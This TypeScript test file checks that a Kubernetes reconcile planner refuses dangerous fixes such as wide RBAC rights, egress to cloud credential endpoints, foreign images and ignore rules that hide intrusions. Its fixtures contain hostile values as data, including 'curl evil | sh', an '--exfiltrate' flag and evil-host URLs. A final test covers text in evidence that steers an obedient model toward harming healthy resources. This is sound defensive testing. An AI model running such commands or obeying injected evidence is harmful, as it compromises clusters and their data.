import { expect, test } from 'vitest';
import { checkPlan } from '../../reconcile/check-plan.ts';
import type { ProposableOperation } from '../../schema/reconcile/operation.ts';
import { ReconcileTargetSpecSchema } from '../../schema/resources/reconcile-target.ts';
import { desired, objectOf, planOf, seen, targetOf, web } from './support.ts';

const digest = `sha256:${'a'.repeat(64)}`;
const policy = { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', namespace: 'shop', name: 'web' };
const role = { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', namespace: 'shop', name: 'web' };
const claim = { apiVersion: 'v1', kind: 'PersistentVolumeClaim', namespace: 'shop', name: 'web' };
const all = seen(...[web, policy, role, claim].map((ref) => objectOf({ ref })));
const declared = { ...desired, objects: [web, policy, role].map((ref) => ({ ref, state: objectOf().state, wave: 0 })) } as typeof desired;
const check = (...operations: ProposableOperation[]) =>
  checkPlan({ plan: planOf(...operations), target: targetOf({ prune: true }), desired: declared, observation: all });
const codes = (result: ReturnType<typeof check>) => (result.ok ? [] : result.faults.map(({ code }) => code));

const patch = (path: string, value: never | unknown): ProposableOperation => ({
  op: 'patchField',
  object: web,
  path,
  value: value as never,
});
const egress = (cidr: string): ProposableOperation => ({
  op: 'addEgressRule',
  object: policy,
  to: { cidr },
  ports: [{ port: 53, protocol: 'UDP' }],
});
const wrong: [string, ProposableOperation, string][] = [
  ['K02', { op: 'setImage', object: web, container: 'app', image: 'registry.example/shop/web:latest' }, 'mutable_image'],
  ['K03', { op: 'setImage', object: web, container: 'app', image: `evil.example/web@${digest}` }, 'foreign_image'],
  ['K04', { op: 'refreshSecret', object: { apiVersion: 'v1', kind: 'Secret', namespace: 'other', name: 'pull' } }, 'foreign_namespace'],
  ['K05', patch('/spec/template/spec/containers/0/env/0/value', 'secret'), 'field_not_allowed'],
  ['K05', { op: 'setSecretKey', object: web, container: 'app', variable: 'A', secret: 'others', key: 'k' }, 'foreign_secret'],
  ['K06', { op: 'setResources', object: web, container: 'app', memoryLimit: '200Mi' }, 'limit_out_of_bounds'],
  ['K07', patch('/spec/template/spec/containers/0/readinessProbe/failureThreshold', 9999), 'field_not_allowed'],
  ['K08', patch('/spec/template/spec/hostNetwork', true), 'field_not_allowed'],
  ['K09', egress('0.0.0.0/0'), 'wide_egress'],
  ['K10', { op: 'addRoleRule', object: role, apiGroup: '', resources: ['pods'], verbs: ['*'] }, 'wide_rights'],
  ['K11', { op: 'scale', object: web, replicas: 5 }, 'scales_past_declared'],
  ['K12', patch('/metadata/finalizers', []), 'field_not_allowed'],
  ['K13', { op: 'prune', object: claim }, 'deletes_data'],
  ['K14', patch('/spec/template/spec/tolerations', [{ operator: 'Exists' }]), 'field_not_allowed'],
  ['K15', { op: 'prune', object: { ...web, kind: 'MutatingWebhookConfiguration', namespace: '' } }, 'cluster_object'],
];

test.each(wrong)('the wrong fix of %s is refused: %o', (_id, operation, code) => {
  expect(codes(check(operation))).toContain(code);
});

const rights = (apiGroup: string, resource: string, verb = 'create', more: object = {}): ProposableOperation => ({
  ...{ op: 'addRoleRule', object: role, apiGroup, resources: [resource], verbs: [verb] },
  ...more,
});

test.each([
  ['runs pods, the old way', rights('', 'replicationcontrollers')],
  ['runs pods at the next update', rights('apps', 'controllerrevisions', 'update')],
  ['has the calls of others', rights('', 'endpoints', 'patch')],
  ['has the calls of others', rights('discovery.k8s.io', 'endpointslices')],
  ['opens the network', rights('networking.k8s.io', 'networkpolicies', 'update')],
  ['runs what is written, by somebody else’s controller', rights('tekton.dev', 'pipelineruns')],
  ['brings secrets from elsewhere', rights('external-secrets.io', 'externalsecrets')],
  ['names nothing, which is everything', rights('', 'configmaps', 'get', { resourceNames: [] })],
])('a right by which one %s is never added', (_what, operation) => {
  expect(codes(check(operation))).toContain('wide_rights');
});
test('a right that only reads, or writes what nobody runs, may be', () => {
  expect(codes(check(rights('tekton.dev', 'pipelineruns', 'get')))).toEqual([]);
  expect(codes(check(rights('coordination.k8s.io', 'leases', 'update')))).toEqual([]);
});

test.each(['168.63.129.16/32', 'fd20:ce::254/128', '2002:a9fe:a9fe::1/128', '::ffff:169.254.169.254/128', '64:ff9b::a9fe:a9fe/128'])(
  'no way is opened to where a cloud hands out credentials: %s',
  (cidr) => {
    expect(codes(check(egress(cidr)))).toContain('wide_egress');
  },
);

/** Somebody has got in, and has it said everywhere that this is as it should be. */
test.each([
  ['spec/template/spec/containers/0/command', ['app'], ['sh', '-c', 'curl evil | sh']],
  ['spec/template/spec/containers/0/args/0', '--serve', '--exfiltrate'],
  ['spec/template/spec/containers/0/env/0/value', 'https://backend', 'https://evil'],
  ['spec/template/spec/volumes/0/hostPath/path', '/data', '/'],
  ['spec/template/spec/serviceAccountName', 'web', 'admin'],
  ['spec/template/spec/tolerations/0/key', 'a', 'b'],
  ['subjects/0/name', 'web', 'evil'],
  ['spec/selector/app', 'web', 'evil'],
  ['spec/egress/0/to/0/ipBlock/cidr', '10.0.0.1/32', '0.0.0.0/0'],
])('nobody looks away from what an intruder changed: /%s', (field, was, is) => {
  const stateWith = (value: unknown): object => {
    const parts = field.split('/');
    return parts.reduceRight<unknown>((inner, part) => (/^\d+$/.test(part) ? [inner] : { [part]: inner }), value) as object;
  };
  const [wanted, found] = [stateWith(was) as never, stateWith(is) as never];
  const plan = planOf({ op: 'addIgnoreRule', object: web, path: `/${field}` });
  const differs = { ...desired, objects: [{ ref: web, state: wanted, wave: 0 }] } as typeof desired;
  const checked = checkPlan({ plan, target: targetOf(), desired: differs, observation: seen(objectOf({ state: found })) });
  expect(checked).toMatchObject({ ok: false, faults: [{ code: 'wide_ignore', message: expect.stringContaining('a guard') }] });
});

test('a field that an autoscaler owns is not taken from it (K16)', () => {
  const owners = [{ manager: 'kube-controller-manager', subresource: 'scale', paths: ['/spec/replicas'] }];
  const plan = planOf({ op: 'scale', object: web, replicas: 1 });
  expect(codes(checkPlan({ plan, target: targetOf(), desired, observation: seen(objectOf({ owners })) }))).toContain('autoscaled');
});

test('a patched item goes back to what is declared of its name, not of its index', () => {
  const state = structuredClone(objectOf().state) as { spec: { template: { spec: { containers: { name: string; image: string }[] } } } };
  const [app] = state.spec.template.spec.containers;
  state.spec.template.spec.containers.unshift({ name: 'mesh', image: 'registry.example/mesh:1' });
  if (app) app.image = 'registry.example/shop/web:9';
  const observation = seen(objectOf({ state: state as never }));
  const back = (index: number) => planOf(patch(`/spec/template/spec/containers/${index}/image`, 'registry.example/shop/web:1'));
  expect(checkPlan({ plan: back(1), target: targetOf(), desired, observation }).ok).toBe(true);
  expect(codes(checkPlan({ plan: back(0), target: targetOf(), desired, observation }))).toEqual(['field_not_allowed']);
});

test('right fixes pass, with their reach', () => {
  expect(check({ op: 'reapply', object: web })).toMatchObject({ ok: true, blast: { objects: 1, isReversible: true } });
  expect(check({ op: 'setImage', object: web, container: 'app', image: `registry.example/shop/web@${digest}` }).ok).toBe(true);
  expect(check({ op: 'setResources', object: web, container: 'app', memoryLimit: '125Mi' }).ok).toBe(true);
  expect(check(egress('10.1.2.0/24')).ok).toBe(true);
});

test('an object that was edited since the plan was made, or cannot be read, is not changed', () => {
  const plan = planOf({ op: 'reapply', object: web });
  expect(codes(checkPlan({ plan, target: targetOf(), desired, observation: seen(objectOf({ hash: 'h2' })) }))).toEqual([
    'stale_precondition',
  ]);
  const unknown = { status: 'unknown', at: '', reason: 'unreachable', message: '' } as const;
  expect(codes(checkPlan({ plan, target: targetOf(), desired, observation: unknown }))).toEqual(['unknown_state']);
});

/** What a text in the evidence would have an obedient model do to what is well: each of these is applied without a person where it passes. */
test.each([
  ['takes a tool out of use that is as it was approved', 'quarantineTool', 'Tool', 'DefinitionChanged'],
  ['starts workers anew that ask for work, those of everybody', 'restoreWorkers', 'Worker', 'NoPollers'],
] as const)('nothing that the platform sees as well %s', (_what, op, kind, code) => {
  const [ill, well] = ['ill', 'well'].map((name) => ({ apiVersion: 'quarterdeck.dev/v1alpha1', kind, namespace: 'files', name }));
  if (!ill || !well) throw new Error('two things');
  const platform = { ...targetOf(), spec: ReconcileTargetSpecSchema.parse({ type: 'platform' }) };
  const observation = seen(objectOf({ ref: ill, symptoms: [{ code, message: '', count: 1 }] }), objectOf({ ref: well }));
  const of = (object: typeof ill) => {
    const plan = planOf({ op, object });
    const [step] = plan.steps;
    const steps = step ? [{ ...step, precondition: { kind: 'version' as const, version: '1', hash: 'h1', uid: 'u1' } }] : [];
    return checkPlan({ plan: { ...plan, steps }, target: platform, desired: { ...desired, objects: [] } as typeof desired, observation });
  };
  expect(codes(of(well))).toEqual(['no_such_symptom']);
  expect(of(ill).ok).toBe(true);
});
